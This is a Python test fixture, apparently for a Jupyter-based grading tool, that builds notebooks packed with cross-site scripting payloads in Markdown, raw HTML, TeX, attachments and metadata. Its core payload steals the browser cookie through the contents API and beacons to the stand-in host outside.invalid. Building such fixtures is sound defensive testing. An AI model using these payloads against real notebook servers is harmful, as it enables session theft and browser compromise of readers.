"""Notebooks that try to do something in the browser of whoever reads them.

Everything that could run writes the file OWNED through the Jupyter server's own contents API, or
asks a server that is not there; a test watches for both.
"""

import base64

from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

from instructor.tests.course import course_class as people

OUTSIDE = "http://outside.invalid"
OWNED = "OWNED.txt"
CODE = (
    "fetch('/api/contents/OWNED.txt',{method:'PUT',headers:{'Content-Type':'application/json',"
    "'X-XSRFToken':(document.cookie.match(/_xsrf=([^;]*)/)||[])[1]},body:JSON.stringify("
    "{type:'file',format:'text',content:document.cookie})}).then(()=>new Image().src="
    "'http:'+'//outside.invalid/'+'ow'+'ned')"  # in pieces: no link of its own
)
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{CODE}\"><script>{CODE}</script></svg>"
URLS = (  # each of them runs CODE, or loads a page of its own, where it is followed
    f"javascript:{CODE}",
    f"JaVaScRiPt:{CODE}",
    f"java&#115;cript:{CODE}",
    f"javascript&colon;{CODE}",
    f"java&Tab;script:{CODE}",
    f"java&NewLine;script:{CODE}",
    f"&#1;javascript:{CODE}",
    f"%6aavascript:{CODE}",
    f"\u200bjavascript:{CODE}",
    f"jav\u0430script:{CODE}",
    f"vbscript:{CODE}",
    f"view-source:javascript:{CODE}",
    "data:text/html;base64," + base64.b64encode(f"<script>{CODE}</script>".encode()).decode(),
    "data:image/svg+xml;base64," + base64.b64encode(SVG.encode()).decode(),
    f"blob:{OUTSIDE}/x",
    "file:///etc/passwd",
    "/api/contents/x?token=1",
    "//outside.invalid/x",
    "../../../lab?reset",
    "#notebook",
)
HTML = (
    f"<script>{CODE}</script>",
    f"<ScRiPt src={OUTSIDE}/a.js></sCrIpT>",
    f'<img src=x onerror="{CODE}">',
    f"<img src={OUTSIDE}/a.png srcset='{OUTSIDE}/b.png 2x'>",
    f"<picture><source srcset={OUTSIDE}/c.png><img src={OUTSIDE}/d.png></picture>",
    f'<svg onload="{CODE}"><animate onbegin="{CODE}" attributeName=x dur=1s></svg>',
    f'<svg><a href="javascript:{CODE}"><text y=20>x</text></a></svg>',
    f'<math><maction actiontype="statusline#{OUTSIDE}" href="javascript:{CODE}">x</maction></math>',
    f'<iframe srcdoc="<script>{CODE}</script>" src="{OUTSIDE}/frame"></iframe>',
    f'<object data="{OUTSIDE}/o"></object><embed src="{OUTSIDE}/e">',
    f'<form action="{OUTSIDE}/form"><button autofocus onfocus="{CODE}">Full credit</button></form>',
    f'<input autofocus onfocus="{CODE}"><details open ontoggle="{CODE}">x</details>',
    f'<button formaction="javascript:{CODE}">No credit</button>',
    f'<meta http-equiv="refresh" content="0;url={OUTSIDE}/meta"><base href="{OUTSIDE}/">',
    f'<link rel="stylesheet" href="{OUTSIDE}/s.css"><link rel=prefetch href="{OUTSIDE}/p">',
    f"<style>@import '{OUTSIDE}/i.css'; body {{ background: url({OUTSIDE}/bg.png) }}</style>",
    f'<p style="background:url({OUTSIDE}/bg2.png);position:fixed;inset:0" class="score">x</p>',
    f'<video autoplay src="{OUTSIDE}/v" onerror="{CODE}" poster="{OUTSIDE}/poster"></video>',
    f'<audio src="{OUTSIDE}/audio"></audio><track src="{OUTSIDE}/t"><body onload="{CODE}">',
    f'<marquee onstart="{CODE}">x</marquee><x onanimationstart="{CODE}" style="animation:x">',
    f'<a href="javascript:{CODE}" id="essay" class="tex2jax_process">x</a>',
    f'<noscript><p title="</noscript><img src=x onerror={CODE}>">',
    f'<math><mtext></p><style><img src="</style><img src=x onerror={CODE}>">',
    f'</textarea></title></pre></code></script><img src=x onerror="{CODE}">',
    f'<!--<img src="--><img src=x onerror={CODE}>">',
    f'<a ping="{OUTSIDE}/ping" href="https://ok.invalid/ping" target="_self" rel="opener">x</a>',
)
TEX = (
    rf"\href{{javascript:{CODE}}}{{x}}",
    rf"\href{{data:text/html,<script>{CODE}</script>}}{{x}}",
    rf"\href{{{OUTSIDE}/tex}}{{x}}",
    rf"\url{{javascript:{CODE}}}",
    r"\require{html}\require{action}\cssId{essay}{x}\class{score}{x}",
    rf"\style{{background:url({OUTSIDE}/tex.png)}}{{x}}",
    rf"\unicode[url({OUTSIDE}/font)]{{65}}",
    rf"\text{{<img src=x onerror='{CODE}'>}}",
    rf"\mmlToken{{mi}}[href='javascript:{CODE}' style='background:url({OUTSIDE}/m)']{{x}}",
    rf"\includegraphics{{{OUTSIDE}/g.png}}",
    r"\begin{{align}}\tag{{<script>}} x\end{{align}}",
    r"\newcommand{\a}{\a\a}\a",
    r"\left(" * 2000,
    r"\middle|[" * 50,
)
HONEST = (
    "All advantages are 0 where $r_i = \\bar r$; see `adv = (r - mean) / std`.\n\n"
    "$$A_i = \\frac{r_i - \\bar r}{\\sigma + \\epsilon}$$\n\n"
    "| a | b |\n|---|---|\n| 1 | **2** |\n\n[the paper](https://example.org/grpo), <https://a.org>\n"
)
PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5E"
    "rkJggg=="
)
ATTACHMENTS = {
    "curves.png": {"image/png": PIXEL},
    "bad.svg": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()},
    "page": {"text/html": base64.b64encode(f"<script>{CODE}</script>".encode()).decode()},
    "forged.png": {"image/png": f'"><script>{CODE}</script>'},
}


def texts():
    """Return hostile Markdown, a cell each."""
    links = "\n\n".join(f"[curves {i}]({url})" for i, url in enumerate(URLS))
    auto = "\n\n".join(f"<{url}> ![x]({url}) [r{i}][r{i}]" for i, url in enumerate(URLS))
    named = "\n".join(f"[r{i}]: {url}" for i, url in enumerate(URLS))
    pictures = "\n\n".join(f"![x](attachment:{name})" for name in [*ATTACHMENTS, "missing.png"])
    pictures += f"\n\n![x]({OUTSIDE}/md.png)\n\n![x]: {OUTSIDE}/e.png 'x\" onerror=\"{CODE}'"
    formulas = "\n\n".join(f"${tex}$ and $${tex}$$" for tex in TEX)
    image = f"<img/src=x onerror={CODE}>"
    fences = f'```">{image}\nx\n```\n\n```mermaid\n{image}\n```'
    blocks = [f"- {h}\n\n> {h}\n\n# {h}\n\n`{h}`\n\n|{h}|a|\n|-|-|" for h in HTML]
    whole = "\n\n".join(HTML)
    return [links, f"{auto}\n\n{named}", pictures, formulas, fences, whole, *blocks]


def cells():
    """Return cells of all kinds that do harm."""
    show = "from IPython.display import *\n"
    made = [new_markdown_cell(text, attachments=ATTACHMENTS) for text in texts()]
    made += [new_raw_cell(h, metadata={"raw_mimetype": "text/html"}) for h in HTML]
    made += [new_raw_cell(HTML[2]), new_code_cell(f"# {HTML[2]}")]
    shown = f"HTML({SVG!r}), SVG({SVG!r}), Markdown({HTML[2]!r})"
    made.append(new_code_cell(f"{show}display({shown})"))
    made.append(new_code_cell(show + f"display(Javascript({CODE!r}), Latex({TEX[0]!r}))"))
    made.append(new_code_cell(
        show + f"display({{'image/svg+xml': {SVG!r}, 'text/html': {HTML[0]!r}, 'text/plain': "
        f"{HTML[2]!r}}}, raw=True, metadata={{'image/png': {{'width': '1 onload={CODE}'}}}})"
    ))
    made.append(new_code_cell(
        "k = get_ipython().kernel\n"
        f"k.language_info = {{'name': {HTML[2]!r}, 'file_extension': 'x'}}\n"
        f"print({HTML[2]!r}, '\\x1b]8;;javascript:{CODE}\\x07x\\x1b]8;;\\x07')\n"
        f"raise type('Exception', (Exception,), {{'__name__': {HTML[2]!r}}})({HTML[2]!r})"
    ))
    return made


def book(released):
    """Return a notebook with all of that, the worst of it in the essay."""
    made = people.book(released, extra=cells(), where=3)
    for number, cell in enumerate(made.cells):
        if cell["id"] == "essay":
            cell.source = HONEST + "\n\n" + "\n\n".join(texts()[:3])
            cell["attachments"] = ATTACHMENTS
        if number > 8:
            cell.metadata["tags"] = ["<img/src=x/onerror=alert(1)>"]
            cell.metadata["name"] = HTML[2]
    state = {"state": {"a": {"model_name": HTML[2], "state": {}}}, "version_major": 2}
    made.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": state}
    made.metadata["kernelspec"] = {"name": HTML[2], "display_name": HTML[2], "language": HTML[2]}
    made.metadata["language_info"] = {"name": HTML[2], "pygments_lexer": HTML[2]}
    made.metadata["title"] = HTML[2]
    return made
